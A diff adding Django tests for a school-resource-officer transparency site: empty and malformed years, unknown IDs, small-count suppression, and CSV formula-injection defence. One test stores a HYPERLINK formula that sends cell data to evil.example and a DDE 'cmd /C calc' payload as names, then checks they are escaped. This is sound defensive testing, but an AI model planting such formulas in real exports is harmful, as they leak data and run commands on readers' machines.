@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from collections import Counter
 from typing import Any
 
 import pytest
@@ -12,7 +13,8 @@ from django.test import override_settings
 
 from conftest import Demo
 from sro.incidents.models import IncidentPerson
-from sro.public.transparency import csv_rows, transparency
+from sro.public.transparency import OUTCOMES, csv_rows, transparency
+from sro.rules.suppression import SuppressedTable, Table
 
 YEAR = "2026-27"
 
@@ -145,3 +147,180 @@ def test_complaints_are_counted_without_a_word_of_them(client: Any, demo: Demo) 
         assert complaint.narrative[:40] not in body
         if complaint.complainant_name:
             assert complaint.complainant_name not in body
+
+
+# Every public page and CSV answers well whatever year or agency the address names (issue 23,
+# finding 12: the CSV of a year without students was a server error).
+
+UNKNOWN = "00000000-0000-0000-0000-000000000000"
+
+
+@pytest.mark.parametrize(
+    "year",
+    [
+        pytest.param("2019-20", id="a past year without students"),
+        pytest.param("2031-32", id="a future year"),
+        pytest.param("1000-01", id="the earliest year"),
+        pytest.param("9998-99", id="the last year of the calendar"),
+    ],
+)
+def test_a_year_without_students_has_a_page_and_a_csv_of_zeros(
+    client: Any, demo: Demo, year: str
+) -> None:
+    page = client.get("/public/transparency/", {"school_year": year})
+    assert page.status_code == 200
+    assert f"students SROs dealt with, {year}" in page.content.decode()
+    response = client.get(f"/public/transparency/{demo.agency.pk}/{year}.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    figures = [r for r in rows if r["table"] != "complaints"]
+    # No school had a student, so that table is only its line of totals (one per outcome and
+    # the grand total); the groups keep their rows. Every figure is zero.
+    by_school = [r for r in figures if r["table"] == "by_school"]
+    assert [r["row"] for r in by_school] == ["All students"] * 6
+    assert {r["table"] for r in figures} == {
+        "by_school",
+        "sex",
+        "race_ethnicity",
+        "disability",
+        "english_learner",
+    }
+    assert {r["value"] for r in figures} == {"0"}
+
+
+@pytest.mark.parametrize(
+    "year",
+    ["2026", "2026-28", "9999-00", "0000-01", "x" * 300, "2026-27\u202e", "-2026-27"],
+    ids=["bare year", "skips a year", "beyond the calendar", "year zero", "long", "rtl", "dash"],
+)
+def test_a_bad_year_is_not_found_in_the_csv_and_the_page_shows_this_year(
+    client: Any, demo: Demo, year: str
+) -> None:
+    assert client.get(f"/public/transparency/{demo.agency.pk}/{year}.csv").status_code == 404
+    page = client.get("/public/transparency/", {"school_year": year})
+    assert page.status_code == 200
+    assert "students SROs dealt with, 2026-27" in page.content.decode()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"/public/transparency/{UNKNOWN}/2019-20.csv",
+        f"/public/transparency/{UNKNOWN}/9999-00.csv",
+        f"/public/schools/{UNKNOWN}/",
+        f"/public/schools/{UNKNOWN}/letter/",
+        f"/public/agencies/{UNKNOWN}/policy/",
+        f"/public/agencies/{UNKNOWN}/policy/1/",
+    ],
+)
+def test_an_unknown_agency_or_school_is_not_found(client: Any, demo: Demo, url: str) -> None:
+    assert client.get(url).status_code == 404
+
+
+def test_the_agency_without_students_or_schools_has_a_csv(client: Any, demo: Demo) -> None:
+    response = client.get(f"/public/transparency/{demo.other_agency.pk}/{YEAR}.csv")
+    assert response.status_code == 200
+    assert client.get("/public/").status_code == 200
+
+
+@override_settings(SRO_PUBLIC_MIN_COUNT=1)
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(client: Any, demo: Demo) -> None:
+    """A school or agency named like a spreadsheet formula must not run when the CSV is opened
+    (issue 23, finding 10): the cell starts with a quote, as in every other CSV export."""
+    from sro.roster.services import save_agency
+    from sro.schools.services import save_school
+
+    school = demo.high_school
+    school.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    save_school(school, actor=demo.users["chief"])
+    agency = demo.agency
+    agency.name = "+cmd|' /C calc'!A0"
+    save_agency(agency, actor=demo.users["chief"])
+    response = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert f"'{school.name}" in cells
+    assert f"'{agency.name}" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+# No withheld count can be worked out from the page's figures (issue 23, finding 3).
+
+
+def _truth_and_published(text: str, agency: Any) -> tuple[list[Table], tuple[SuppressedTable, ...]]:
+    """The true counts, counted here from the records, and what the CSV publishes of them."""
+    published: dict[str, dict[str, dict[str, str]]] = {}
+    for r in csv.DictReader(io.StringIO(text)):
+        if r["table"] != "complaints":
+            published.setdefault(r["table"], {}).setdefault(r["row"], {})[r["column"]] = r["value"]
+    outcome = {d: key for key, _, ids in OUTCOMES for d in ids}
+    learner = {True: "English learner", False: "Not an English learner", None: "Not recorded"}
+    students = IncidentPerson.objects.filter(incident__agency=agency, kind="student").exclude(
+        disposition=""
+    )
+    label = {
+        "by_school": lambda p: p.incident.school.name,
+        "sex": lambda p: p.get_sex_display() if p.sex else "Not recorded",
+        "race_ethnicity": lambda p: (
+            p.get_race_ethnicity_display() if p.race_ethnicity else "Not recorded"
+        ),
+        "disability": lambda p: p.get_disability_display() if p.disability else "Not recorded",
+        "english_learner": lambda p: learner[p.english_learner],
+    }
+    columns = [name for _, name, _ in OUTCOMES]
+    keys = tuple(key for key, _, _ in OUTCOMES)
+    tables, outs = [], []
+
+    def value(text: str) -> int | None:
+        return None if text == "withheld" else int(text)
+
+    for key, of in label.items():
+        lines = [row for row in published[key] if row != "All students"]
+        counts = Counter((of(p), outcome[p.disposition]) for p in students)
+        assert sum(counts.values()) == students.count()
+        assert {row for row, _ in counts} <= set(lines)
+        matrix = tuple(tuple(counts[row, k] for k in keys) for row in lines)
+        tables.append(Table(matrix, len(keys), column_keys=keys, total_key="students"))
+        outs.append(
+            SuppressedTable(
+                cells=tuple(tuple(value(published[key][row][c]) for c in columns) for row in lines),
+                row_totals=tuple(value(published[key][row]["All outcomes"]) for row in lines),
+                column_totals=tuple(value(published[key]["All students"][c]) for c in columns),
+                total=value(published[key]["All students"]["All outcomes"]),
+            )
+        )
+    return tables, tuple(outs)
+
+
+@pytest.mark.parametrize("threshold", [2, 3, 10])
+def test_no_withheld_count_can_be_worked_out_from_the_csv(
+    client: Any, demo: Demo, threshold: int
+) -> None:
+    """The CSV's five tables are solved together, with the totals they share, by the rules'
+    independent solver: no withheld count is determined, nor fixed by what a reader knows."""
+    from tests.rules.test_suppression import assert_nothing_withheld_can_be_worked_out
+
+    with override_settings(SRO_PUBLIC_MIN_COUNT=threshold):
+        text = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv").content.decode()
+    tables, published = _truth_and_published(text, demo.agency)
+    assert any(n is None for t in published for row in t.cells for n in row)
+    assert_nothing_withheld_can_be_worked_out(tables, published, threshold)
+
+
+@pytest.mark.parametrize(("threshold", "shown"), [(10, "1 to 9"), (5, "1 to 4")])
+def test_the_page_and_the_dictionary_say_how_counts_are_withheld(
+    client: Any, demo: Demo, threshold: int, shown: str
+) -> None:
+    with override_settings(SRO_PUBLIC_MIN_COUNT=threshold):
+        page = " ".join(client.get("/public/transparency/").content.decode().split())
+        index = " ".join(client.get("/public/").content.decode().split())
+    assert "How small counts are withheld" in page
+    assert f"A count from {shown} is shown as “withheld”" in page
+    assert "combining several rows, columns and tables" in page
+    assert "at least 1" in page
+    assert "A withheld count can therefore be large" in page
+    assert f"a count from {shown} is withheld" in index
+    assert "those with a prone restraint would give those without one" in index
+    dictionary = client.get("/public/transparency/data-dictionary.csv").content.decode()
+    assert "combining rows, columns, totals and tables" in dictionary
+    assert "A withheld count can be large" in dictionary
